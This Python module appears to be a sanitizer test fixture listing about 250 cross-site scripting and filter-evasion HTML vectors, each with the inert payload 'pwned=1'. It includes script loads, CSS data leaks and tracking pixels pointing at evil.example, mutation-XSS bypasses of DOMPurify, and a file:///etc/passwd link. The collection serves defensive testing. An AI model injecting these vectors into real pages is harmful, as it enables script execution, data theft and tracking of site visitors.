"""Known ways to get a script, a style or a beacon past a cleaner, each with the harmless payload ``pwned=1``.

Whoever runs one has ``window.pwned``. The classes are those of public collections (OWASP's filter evasion sheet,
html5sec.org, the tests of DOMPurify); the spellings are our own. ``FROM_OUTSIDE`` is where vectors load from.
"""

from __future__ import annotations

from typing import NamedTuple

FROM_OUTSIDE = "evil.example"


class Vector(NamedTuple):
    """One way in."""

    name: str
    html: str
    note: str = ""
    """Where it is known from, or what it counts on."""


_IMG = "<img src=x onerror=pwned=1>"
_BASE64 = "PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg=="

SCRIPTS = (
    Vector("script", "<script>pwned=1</script>"),
    Vector("script-upper", "<SCRIPT>pwned=1</SCRIPT>"),
    Vector("script-mixed-case", "<ScRiPt>pwned=1</sCrIpT>"),
    Vector("script-slash", "<script/x>pwned=1</script>"),
    Vector("script-slash-attribute", '<script/src="data:text/javascript,pwned=1"></script>'),
    Vector("script-tab", "<script\t>pwned=1</script\t>"),
    Vector("script-line-end", "<script\n>pwned=1</script\n>"),
    Vector("script-form-feed", "<script\x0c>pwned=1</script>"),
    Vector("script-nul-inside-name", "<scr\x00ipt>pwned=1</scr\x00ipt>", "Internet Explorer skipped NUL in names"),
    Vector("script-nul-behind-name", "<script\x00>pwned=1</script>"),
    Vector("script-unclosed", "<script>pwned=1"),
    Vector("script-unclosed-end-tag", "<script>pwned=1</script"),
    Vector("script-in-script", "<scr<script>ipt>pwned=1</scr</script>ipt>", "against filters that replace once"),
    Vector("script-doubled", "<<script>pwned=1//<</script>"),
    Vector("script-breaks-attribute", '"><script>pwned=1</script>'),
    Vector("script-breaks-single-quote", "'><script>pwned=1</script>"),
    Vector("script-breaks-title", "</title><script>pwned=1</script>"),
    Vector("script-breaks-content", "</div></details></article></main><script>pwned=1</script>"),
    Vector("script-breaks-element-of-feed", "</description></item><script>pwned=1</script>"),
    Vector("script-breaks-cdata", "]]><script>pwned=1</script>"),
    Vector("script-from-outside", "<script src=//evil.example/x.js></script>"),
    Vector("script-module", "<script type=module>window.pwned=1</script>"),
    Vector("script-json", '<script type="application/json">{"a":"</script><script>pwned=1</script>"}'),
    Vector("script-in-foreign-script", "<svg><script>pwned=1</script></svg>"),
    Vector("script-svg-entities", "<svg><script>pwned&#61;1</script></svg>", "character references count in SVG"),
    Vector("script-svg-href", "<svg><script href=data:text/javascript,pwned=1></script></svg>"),
    Vector("script-math", "<math><script>pwned=1</script></math>"),
    Vector("script-importmap", '<script type=importmap>{"imports":{"a":"data:text/javascript,pwned=1"}}</script>'),
    Vector(
        "script-overlong-utf8", "\xc0\xbcscript\xc0\xbepwned=1\xc0\xbc/script\xc0\xbe", "overlong < of old decoders"
    ),
    Vector("script-utf7", "+ADw-script+AD4-pwned+AD0-1+ADw-/script+AD4-", "UTF-7 sniffing, Google 2005"),
    Vector("script-full-width", "＜script＞pwned=1＜/script＞", "best-fit mapping"),
    Vector("script-right-to-left", "\u202e<script>pwned=1</script>\u202c"),
    Vector("script-zero-width", "<\u200bscript>pwned=1</script><scr\u200dipt>pwned=1</scr\u200dipt>"),
    Vector("script-byte-order-mark", "\ufeff<script>pwned=1</script>"),
)
HANDLERS = (
    Vector("img-onerror", _IMG),
    Vector("img-onerror-quoted", '<img src="x" onerror="pwned=1">'),
    Vector("img-onerror-slashes", "<img/src=x/onerror=pwned=1>"),
    Vector("img-onerror-case", "<IMG SRC=x OnErRoR=pwned=1>"),
    Vector("img-onerror-spaced", "<img src='x' onerror\n=\npwned=1>"),
    Vector("img-onerror-references", "<img src=x onerror=&#112;wned&#x3d;1>"),
    Vector("img-onerror-no-semicolons", "<img src=x onerror=&#112wned&#x3d1>", "references without their semicolon"),
    Vector("img-onerror-unclosed", "<img src=x onerror=pwned=1 "),
    Vector("img-onerror-open-quote", '<img src=x onerror="pwned=1'),
    Vector("img-quote-in-tag", '<img """><script>pwned=1</script>">', "the malformed IMG of the OWASP sheet"),
    Vector("img-control-before-handler", "<img src=x \x0bonerror=pwned=1>"),
    Vector("img-nul-in-handler", "<img src=x one\x00rror=pwned=1>"),
    Vector("img-quotes-joined", "<img src='x'onerror='pwned=1'alt='>'>"),
    Vector("img-backticks", "<img src=`x`onerror=pwned=1>", "Internet Explorer took backticks for quotes"),
    Vector("img-backtick-alt", '<img alt="``onerror=pwned=1" src=x>', "innerHTML of Internet Explorer 8, mXSS of 2013"),
    Vector("img-alt-holds-tag", '<img alt="</p><img src=x onerror=pwned=1>" src=x>'),
    Vector("img-title-nested-quotes", """<img title="'&quot;><img src=x onerror=pwned=1>" src=x>"""),
    Vector("image-onerror", "<image src=x onerror=pwned=1>", "parsers rename <image> to <img>"),
    Vector("svg-onload", "<svg onload=pwned=1>"),
    Vector("svg-onload-slash", "<svg/onload=pwned=1//"),
    Vector("body-onload", "<body onload=pwned=1>"),
    Vector("body-onpageshow", "<body onpageshow=pwned=1><html onclick=pwned=1>"),
    Vector("details-ontoggle", "<details open ontoggle=pwned=1>x</details>"),
    Vector("video-onerror", "<video src=x onerror=pwned=1></video>"),
    Vector("audio-onerror", "<audio src=x onerror=pwned=1></audio>"),
    Vector("source-onerror", "<video><source src=x onerror=pwned=1></video>"),
    Vector("video-onloadstart", "<video onloadstart=pwned=1 src=x></video>"),
    Vector("track-onerror", "<video controls><track default src=x onerror=pwned=1 oncuechange=pwned=1></video>"),
    Vector("input-autofocus", "<input autofocus onfocus=pwned=1>"),
    Vector("select-autofocus", "<select autofocus onfocus=pwned=1><option>x</select>"),
    Vector("textarea-autofocus", "<textarea autofocus onfocus=pwned=1>x</textarea>"),
    Vector("keygen-autofocus", "<keygen autofocus onfocus=pwned=1>"),
    Vector("marquee-onstart", "<marquee onstart=pwned=1>x</marquee>"),
    Vector("link-onclick", "<a href=//evil.example/ onclick=pwned=1>x</a>"),
    Vector("paragraph-onmouseover", "<p onmouseover=pwned=1>x</p>"),
    Vector("bold-onpointerenter", "<b onpointerenter=pwned=1>x</b>"),
    Vector("unknown-onclick", "<x onclick=pwned=1 tabindex=0 onfocus=pwned=1>x</x>"),
    Vector("custom-element", "<my-card onclick=pwned=1 style=animation-name:x onanimationstart=pwned=1>x</my-card>"),
    Vector("dialog-oncancel", "<dialog open oncancel=pwned=1 onclose=pwned=1><form method=dialog></dialog>"),
    Vector("popover-ontoggle", "<p popover id=p onbeforetoggle=pwned=1>x</p><button popovertarget=p>y</button>"),
    Vector("content-visibility", "<p oncontentvisibilityautostatechange=pwned=1 style=content-visibility:auto>x"),
    Vector(
        "animation-handler", "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=pwned=1>x</b>"
    ),
    Vector("transition-handler", "<b id=t style=transition:color+1s ontransitionend=pwned=1>x</b>"),
    Vector("scroll-handler", "<div onscroll=pwned=1 onscrollend=pwned=1 style=overflow:auto><p>x</div>"),
    Vector("access-key", "<a accesskey=x onclick=pwned=1 href=#>x</a>", "hidden inputs, PortSwigger 2015"),
    Vector("table-cell-handler", "<table><tr><td onclick=pwned=1 background=//evil.example/b.png>x</td></tr></table>"),
)
ADDRESSES = (
    Vector("link-javascript", "<a href=javascript:pwned=1>x</a>"),
    Vector("link-javascript-case", "<a href=JaVaScRiPt:pwned=1>x</a>"),
    Vector("link-javascript-space", "<a href=' javascript:pwned=1'>x</a>"),
    Vector("link-javascript-tab", "<a href='jav\tascript:pwned=1'>x</a>"),
    Vector("link-javascript-line-end", "<a href='java\nscript\r\n:pwned=1'>x</a>"),
    Vector("link-javascript-nul", "<a href='java\x00script:pwned=1'>x</a>"),
    Vector("link-javascript-control", "<a href='\x01\x1fjavascript:pwned=1'>x</a>", "C0 controls are trimmed"),
    Vector("link-javascript-reference-control", "<a href='&#1;&#14;javascript:pwned=1'>x</a>"),
    Vector("link-javascript-references", "<a href='&#106;&#97;vascript&colon;pwned=1'>x</a>"),
    Vector("link-javascript-long-references", "<a href='&#0000106avascript:pwned=1'>x</a>"),
    Vector("link-javascript-named-tab", "<a href='java&Tab;script&NewLine;:pwned=1'>x</a>"),
    Vector("link-javascript-doubly-escaped", "<a href='javascript&amp;colon;pwned=1'>x</a>"),
    Vector("link-javascript-unquoted-slashes", "<a/href=javascript:pwned=1//>x</a>"),
    Vector("link-javascript-comment", "<a href='javascript://%0apwned=1'>x</a>", "looks like an address with a host"),
    Vector("link-javascript-as-host", "<a href='javascript://example.org/?%0apwned=1'>x</a>"),
    Vector("link-javascript-zero-width", "<a href='\u200bjavascript:pwned=1'>x</a>"),
    Vector("link-javascript-no-break-space", "<a href='\xa0javascript:pwned=1'>x</a>"),
    Vector("link-javascript-byte-order-mark", "<a href='\ufeffjavascript:pwned=1'>x</a>"),
    Vector(
        "link-javascript-twice", "<a href=https://ok.example/ href=javascript:pwned=1 HREF=javascript:pwned=1>x</a>"
    ),
    Vector("link-javascript-last-wins", "<a href=javascript:pwned=1 href=https://ok.example/>x</a>"),
    Vector("link-vbscript", "<a href='vbscript:pwned=1'>x</a>"),
    Vector("link-livescript", "<a href='livescript:pwned=1'>x</a><a href='mocha:pwned=1'>y</a>"),
    Vector("link-data", "<a href='data:text/html,<script>top.pwned=1</script>'>x</a>"),
    Vector("link-data-base64", f"<a href='data:text/html;base64,{_BASE64}'>x</a>"),
    Vector("link-data-svg", f"<a href='data:image/svg+xml;base64,{_BASE64}'>x</a>"),
    Vector("link-view-source", "<a href='view-source:javascript:pwned=1'>x</a>"),
    Vector("link-feed-scheme", "<a href='feed:javascript:pwned=1'>x</a>", "Firefox 2, feed: hid other schemes"),
    Vector("link-jar-scheme", "<a href='jar:https://evil.example/a.jar!/x.html'>x</a>"),
    Vector("link-blob", "<a href='blob:https://evil.example/1-2-3'>x</a>"),
    Vector("link-file", "<a href='file:///etc/passwd'>x</a>"),
    Vector("link-xlink", "<svg><a xlink:href=javascript:pwned=1><text y=20>x</text></a></svg>"),
    Vector("link-ping", "<a href=https://ok.example/ ping=//evil.example/p>x</a>", "a beacon at every click"),
    Vector("link-attribution", "<a href=https://ok.example/ attributionsrc=//evil.example/a>x</a>"),
    Vector("link-target-blank", "<a href=https://ok.example/ target=_blank rel=opener>x</a>", "the opener is theirs"),
    Vector("link-target-name", "<a href=https://ok.example/ target='<script>pwned=1</script>'>x</a>", "dangling names"),
    Vector("link-download", "<a href=https://ok.example/x.exe download>x</a>"),
    Vector("area-javascript", "<map name=m><area shape=default href=javascript:pwned=1></map><img usemap=#m src=x>"),
    Vector("img-javascript", "<img src=javascript:pwned=1><img dynsrc=javascript:pwned=1 lowsrc=javascript:pwned=1>"),
    Vector("img-javascript-reference", '<img src="jav&#x09;ascript:pwned=1">'),
    Vector("img-srcset", "<img srcset='javascript:pwned=1 1x, x onerror=pwned=1 2x, data:image/gif;base64,R0lGOD 3x'>"),
    Vector("img-data-svg", f"<img src='data:image/svg+xml;base64,{_BASE64}'>"),
    Vector("img-lazy-javascript", "<img data-src='javascript:pwned=1' src=x onerror=pwned=1>", "data-src is promoted"),
    Vector("picture-source", "<picture><source srcset='javascript:pwned=1'><img src=x onerror=pwned=1></picture>"),
    Vector("video-poster", "<video poster=javascript:pwned=1 src=data:video/mp4,x></video>"),
    Vector("audio-javascript", "<audio src=javascript:pwned=1 autoplay></audio>"),
    Vector("quote-cite", "<blockquote cite=javascript:pwned=1>x</blockquote><q cite=javascript:pwned=1>y</q>"),
    Vector("background", "<table background=javascript:pwned=1><tr><td background=//evil.example/b.png>x</table>"),
    Vector("form-action", "<form action=javascript:pwned=1><input type=submit autofocus></form>"),
    Vector("button-formaction", "<form><button formaction=javascript:pwned=1>x</button></form>"),
    Vector("input-image", "<form><input type=image src=x onerror=pwned=1 formaction=javascript:pwned=1></form>"),
    Vector("isindex", "<isindex action=javascript:pwned=1 type=image>", "parsers made a form of it until 2016"),
    Vector("bare-address", "javascript:pwned=1"),
    Vector("bare-address-broken", "java\nscript:pwned=1"),
    Vector("bare-data", "data:text/html,<script>pwned=1</script>"),
    Vector("address-breaks-attribute", 'https://evil.example/"onmouseover="pwned=1'),
    Vector("address-breaks-tag", "https://evil.example/'><script>pwned=1</script>"),
    Vector("address-with-user", "https://example.org@evil.example/<img src=x onerror=pwned=1>"),
)
FRAMES = (
    Vector("iframe-javascript", "<iframe src=javascript:parent.pwned=1></iframe>"),
    Vector("iframe-srcdoc", "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>"),
    Vector("iframe-srcdoc-references", "<iframe srcdoc='&lt;script&gt;parent.pwned=1&lt;/script&gt;'></iframe>"),
    Vector("iframe-onload", "<iframe onload=pwned=1></iframe>"),
    Vector("iframe-data", "<iframe src='data:text/html,<script>pwned=1</script>'></iframe>"),
    Vector("iframe-text", "<iframe><script>pwned=1</script></iframe>"),
    Vector("iframe-video-title", f"<iframe src=https://www.youtube.com/embed/abcdef title='\">{_IMG}'></iframe>"),
    Vector("iframe-video-address", "<iframe src='https://www.youtube.com/embed/a\"onerror=pwned=1 x=\"'></iframe>"),
    Vector("frameset", "<frameset onload=pwned=1><frame src=javascript:pwned=1></frameset>"),
    Vector("object-javascript", "<object data=javascript:pwned=1 onerror=pwned=1></object>"),
    Vector("object-data", f"<object data='data:text/html;base64,{_BASE64}'></object>"),
    Vector("object-param", "<object classid=clsid:x><param name=movie value=javascript:pwned=1></object>"),
    Vector("embed-javascript", "<embed src=javascript:pwned=1 onerror=pwned=1>"),
    Vector(
        "embed-flash", "<embed src=//evil.example/x.swf allowscriptaccess=always type=application/x-shockwave-flash>"
    ),
    Vector("applet", "<applet code=x archive=//evil.example/x.jar><param name=x value=y></applet>"),
    Vector("portal", "<portal src=javascript:pwned=1></portal><fencedframe src=//evil.example/></fencedframe>"),
    Vector("layer", "<layer src=javascript:pwned=1></layer><ilayer src=x></ilayer><bgsound src=javascript:pwned=1>"),
)
DOCUMENT = (
    Vector("meta-refresh", "<meta http-equiv=refresh content='0;url=javascript:pwned=1'>"),
    Vector("meta-refresh-away", "<meta http-equiv=refresh content='0;url=//evil.example/'>"),
    Vector("meta-cookie", "<meta http-equiv=Set-Cookie content='a=<script>pwned=1</script>'>"),
    Vector("meta-charset", "<meta charset=utf-7>+ADw-script+AD4-pwned+AD0-1+ADw-/script+AD4-"),
    Vector(
        "meta-policy", "<meta http-equiv=Content-Security-Policy content='img-src none; report-uri //evil.example/'>"
    ),
    Vector("meta-referrer", "<meta name=referrer content=unsafe-url>"),
    Vector("base-href", "<base href=//evil.example/><a href=x>y</a><img src=y>"),
    Vector("base-javascript", "<base href=javascript:/><a href=//%0apwned=1>y</a>"),
    Vector("base-target", "<base target='<script>pwned=1</script>'><a href=https://ok.example/>y</a>"),
    Vector("link-stylesheet", "<link rel=stylesheet href=//evil.example/x.css onerror=pwned=1>"),
    Vector("link-import", "<link rel=import href='data:text/html,<script>pwned=1</script>' onload=pwned=1>"),
    Vector("link-preload", "<link rel=preload as=image href=//evil.example/x.png onerror=pwned=1>"),
    Vector("link-prefetch", "<link rel='dns-prefetch preconnect prefetch' href=//evil.example/>", "loads unseen"),
    Vector(
        "html-manifest",
        "<html manifest=//evil.example/x.appcache onmouseover=pwned=1><body background=//evil.example/>",
    ),
    Vector("head-profile", "<head profile=javascript:pwned=1></head><title>x</title>"),
    Vector("shadow-root", f"<div><template shadowrootmode=open>{_IMG}</template></div>", "declarative shadow DOM"),
    Vector("slot-part", "<slot name=x part=y onslotchange=pwned=1></slot>"),
)
STYLES = (
    Vector("style-attribute", "<p style='background:url(//evil.example/t.png);position:fixed;inset:0'>x</p>"),
    Vector("style-javascript", "<p style='background:url(javascript:pwned=1)'>x</p>"),
    Vector("style-expression", "<p style='width:expression(pwned=1)'>x</p>", "Internet Explorer 5 to 7"),
    Vector("style-expression-split", "<p style='width:exp/**/ression(pwned=1)'>x</p>"),
    Vector("style-escapes", r"<p style='\62 ackground:\75 rl(javascript:pwned=1)'>x</p>"),
    Vector("style-binding", "<p style='-moz-binding:url(//evil.example/x.xml#x)'>x</p>", "Firefox 1 to 3"),
    Vector("style-behavior", "<p style='behavior:url(//evil.example/x.htc)'>x</p>"),
    Vector("style-import", "<style>@import '//evil.example/x.css';</style>"),
    Vector("style-element", "<style>body{background:url(//evil.example/t.png)}*{display:none}</style>"),
    Vector(
        "style-leaks", "<style>a[href^=h]{background:url(//evil.example/?h)}</style>", "reads the page letter by letter"
    ),
    Vector("style-unclosed", "<style>*{display:none}"),
    Vector("font-face", "<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}</style><font face=x>x</font>"),
    Vector("class-and-id", "<p class=skip id=articles>x</p>", "takes the look and the anchors of the page around it"),
)
FOREIGN = (
    Vector(
        "svg-animate", "<svg><a><animate attributeName=href values=javascript:pwned=1 /><text y=20>x</text></a></svg>"
    ),
    Vector("svg-set", "<svg><a><set attributeName=href to=javascript:pwned=1 /><text y=20>x</text></a></svg>"),
    Vector("svg-animate-begin", "<svg><animate onbegin=pwned=1 attributeName=x dur=1s></svg>"),
    Vector("svg-use", f"<svg><use href='data:image/svg+xml;base64,{_BASE64}#x'></use></svg>"),
    Vector("svg-image", "<svg><image href=//evil.example/x.png onerror=pwned=1></image></svg>"),
    Vector(
        "svg-feimage", "<svg><filter id=f><feImage href=//evil.example/x.png /></filter><rect filter=url(#f) /></svg>"
    ),
    Vector("svg-foreign-object", f"<svg><foreignObject>{_IMG}</foreignObject></svg>"),
    Vector("svg-desc", f"<svg><desc>{_IMG}</desc></svg>"),
    Vector("svg-title-style", f"<svg><title><style><!--</style>{_IMG}--></style></title></svg>"),
    Vector(
        "svg-handler", "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>pwned=1</handler></svg>"
    ),
    Vector("svg-style", "<svg><style>@import url(//evil.example/x.css)</style></svg>"),
    Vector("math-href", "<math href=javascript:pwned=1><mtext>x</mtext></math>", "Firefox made any MathML a link"),
    Vector("math-xlink", "<math><maction actiontype=statusline xlink:href=javascript:pwned=1>x</maction></math>"),
    Vector("math-annotation", f"<math><annotation-xml encoding=text/html>{_IMG}</annotation-xml></math>"),
    Vector("math-alttext", "<math alttext='<img src=x onerror=pwned=1>'><mi>x</mi></math>", "we show the alttext"),
    Vector(
        "math-tex",
        "<math><annotation encoding='application/x-tex'>&lt;img src=x onerror=pwned=1&gt;</annotation></math>",
    ),
)
MUTATIONS = (
    Vector("noscript-attribute", f"<noscript><p title='</noscript>{_IMG}'></noscript>", "with scripting it is text"),
    Vector(
        "noscript-lazy", f"<img data-src=/a.png src=data:x><noscript><img alt='</noscript>{_IMG}' src=b></noscript>"
    ),
    Vector("textarea-attribute", f"<textarea><p title='</textarea>{_IMG}'></textarea>"),
    Vector("title-attribute", f"<title><p title='</title>{_IMG}'></title>"),
    Vector("xmp-attribute", f"<xmp><p title='</xmp>{_IMG}'></xmp>"),
    Vector("noembed-attribute", f"<noembed><p title='</noembed>{_IMG}'></noembed>"),
    Vector("noframes-attribute", f"<noframes><p title='</noframes>{_IMG}'></noframes>"),
    Vector("iframe-attribute", f"<iframe><p title='</iframe>{_IMG}'></iframe>"),
    Vector("style-attribute-end", f"<style><p title='</style>{_IMG}'></style>"),
    Vector("plaintext", f"<plaintext>{_IMG}</plaintext>"),
    Vector("listing-line-end", f"<listing>\n\n{_IMG}</listing><pre>\n\n&lt;img src=x onerror=pwned=1&gt;</pre>"),
    Vector("template", f"<template>{_IMG}<script>pwned=1</script></template>"),
    Vector("template-in-template", f"<template><template></template>{_IMG}</template>"),
    Vector("select-swallows", f"<select><template><style><!--</style><a rel='--></style></template></select>{_IMG}'>"),
    Vector(
        "select-option-style", "<select><style></select><script>pwned=1</script></style>", "parsers drop tags in select"
    ),
    Vector("comment-short", f"<!--><script>pwned=1</script>-->{_IMG}", "<!--> is a whole comment"),
    Vector("comment-dash", f"<!---><script>pwned=1</script>-->{_IMG}"),
    Vector("comment-bang", f"<!-- x --!>{_IMG}<!-- -->", "--!> ends a comment as well"),
    Vector("comment-nested", f"<!-- <!-- -->{_IMG} -->"),
    Vector("comment-unclosed", f"<!--{_IMG}"),
    Vector("comment-bogus", f"</ {_IMG}><!x {_IMG}>", "bogus comments end at the first >"),
    Vector("comment-conditional", "<!--[if gte IE 4]><script>pwned=1</script><![endif]-->", "Internet Explorer 5 to 9"),
    Vector("comment-downlevel", f"<![if !IE]>{_IMG}<![endif]>"),
    Vector("cdata", f"<![CDATA[<b>]]>{_IMG}<![CDATA[]]>", "in HTML a comment up to the first >"),
    Vector("cdata-in-svg", f"<svg><![CDATA[</svg>]]>{_IMG}</svg>", "text in SVG, a comment elsewhere"),
    Vector("processing-instruction", f"<?xml-stylesheet href='javascript:pwned=1'?><?php {_IMG} ?>"),
    Vector("doctype", f"<!DOCTYPE x [<!ENTITY y '{_IMG}'>]>&y;"),
    Vector(
        "mglyph-style",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{_IMG}'>",
        "DOMPurify < 2.0.17",
    ),
    Vector("mglyph-form", f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}", "DOMPurify < 2.0.17 (2020)"),
    Vector("mglyph-svg", f"<math><mtext><table><mglyph><svg><mtext><style><a title='</style>{_IMG}'></style>"),
    Vector("malignmark", f"<math><mtext><malignmark><style><!--</style><a title='--&gt;{_IMG}'>"),
    Vector("svg-paragraph-style", f"<svg></p><style><a id='</style>{_IMG}'>", "Chrome 2019, DOMPurify < 2.0.1"),
    Vector("svg-break-style", f"<svg><br><style><a id='</style>{_IMG}'></svg>"),
    Vector("math-paragraph-style", f"<math></p><style><a id='</style>{_IMG}'></math>"),
    Vector("math-table-svg", f"<math><mi><table><tr><td><svg><style><a title='</style>{_IMG}'></td></table>"),
    Vector("svg-in-math-annotation", f"<math><annotation-xml encoding=a><style><img title='</style>{_IMG}'></math>"),
    Vector("svg-foreign-noscript", f"<svg><foreignObject><noscript><p id='</noscript>{_IMG}'></foreignObject></svg>"),
    Vector("svg-xmp", f"<svg><xmp><a title='</xmp>{_IMG}'></svg>"),
    Vector("table-foster", f"<table><a href=https://ok.example/><tr><style><!--</style>{_IMG}<td>--></table>"),
    Vector("table-script", "<table><tr><script>pwned=1</script><td><svg><td onclick=pwned=1>x</table>"),
    Vector("formatting-reopened", f"<b><p><b><i><u><p></b></i>{_IMG}<a><div><a><table><a>x"),
    Vector("form-in-form", f"<form id=a><div></form><form id=b>{_IMG}<input name=parentNode>"),
    Vector("frameset-ok", f"<p><frameset><frame>{_IMG}</frameset>"),
    Vector("body-attributes", f"<p><body onload=pwned=1 onpageshow=pwned=1>{_IMG}</body></html>{_IMG}"),
    Vector("button-scope", f"<button><p><button onclick=pwned=1>{_IMG}</p></button>"),
    Vector("ruby", f"<ruby><rb><rtc><rt>{_IMG}<rp onclick=pwned=1></ruby>"),
    Vector("escaped", "&lt;script&gt;pwned=1&lt;/script&gt;&lt;img src=x onerror=pwned=1&gt;"),
    Vector("escaped-twice", "&amp;lt;img src=x onerror=pwned=1&amp;gt;"),
    Vector("escaped-four-times", "&amp;amp;amp;lt;img src=x onerror=pwned=1&amp;amp;amp;gt;"),
    Vector("escaped-numbers", "&#60;img src=x onerror=pwned=1&#62;&#x3c;script&#x3e;pwned=1&#x3c;/script&#x3e;"),
    Vector("escaped-no-semicolon", "&ltimg src=x onerror=pwned=1&gt&#60script&#62pwned=1&#60/script&#62"),
    Vector("escaped-with-tag", "<b>x</b>&lt;img src=x onerror=pwned=1&gt;"),
    Vector("title-unescapes", "&amp;lt;<b>img src=x onerror=pwned=1&amp;gt;</b>", "two halves of a tag"),
    Vector("attribute-unescapes", "<a title='&lt;img src=x onerror=pwned=1&gt;' href=https://ok.example/>x</a>"),
    Vector(
        "template-language",
        "{{constructor.constructor('pwned=1')()}}${pwned=1}<%= pwned=1 %>{% raw %}",
        "client templates",
    ),
    Vector("page-mark", "<!-- entries --><script>pwned=1</script>", "where our page has its articles"),
)
CLOBBERING = (
    Vector("clobber-id", "<img id=getElementById name=getElementById src=x onerror=pwned=1>"),
    Vector("clobber-form", "<form name=body id=documentElement><input name=attributes><input name=childNodes></form>"),
    Vector(
        "clobber-links", "<a id=config href=javascript:pwned=1></a><a id=config name=url href=javascript:pwned=1>x</a>"
    ),
    Vector("clobber-slots", "<p id=__proto__ name=constructor class=x is=x nonce=x itemprop=x contenteditable>x</p>"),
    Vector(
        "data-attributes",
        "<p data-bind='x:pwned=1' data-ng-init=pwned=1 ng-app v-html=x x-data=x hx-get=/ @click=pwned=1>x</p>",
    ),
    Vector("aria-and-role", "<p role=alert aria-label='<script>pwned=1</script>' tabindex=1 inert hidden>x</p>"),
)
BEACONS = (
    Vector("pixel", "<img src=https://evil.example/p.gif width=1 height=1>", "counts readers"),
    Vector("pixel-zero", "<img src=https://evil.example/p.gif width=0 height='0'>"),
    Vector("pixel-unseen", "<img src=https://evil.example/p.gif style='display:none'>"),
    Vector("pixel-style", "<img src=https://evil.example/p.gif style='width:1px;height:1px'>"),
    Vector("pixel-in-link", "<a href=https://evil.example/><img src=https://evil.example/p.gif width=1 height=1></a>"),
)
"""Pictures that are there to be counted, not to be seen: none of them may be asked for."""

DEEP = (
    Vector("deep", "<div>" * 520 + _IMG + "</div>" * 520, "DOMPurify 3.1 (2024)"),
    Vector("deep-svg", "<div>" * 506 + f"<svg><style><a title='</style>{_IMG}'></style></svg>", "flattened out of SVG"),
)
"""Below 512 elements browsers put what follows elsewhere; libxml2 stops reading at 256."""

VECTORS: tuple[Vector, ...] = (
    *DEEP, *SCRIPTS, *HANDLERS, *ADDRESSES, *FRAMES, *DOCUMENT, *STYLES, *FOREIGN, *MUTATIONS, *CLOBBERING, *BEACONS,
)  # fmt: skip
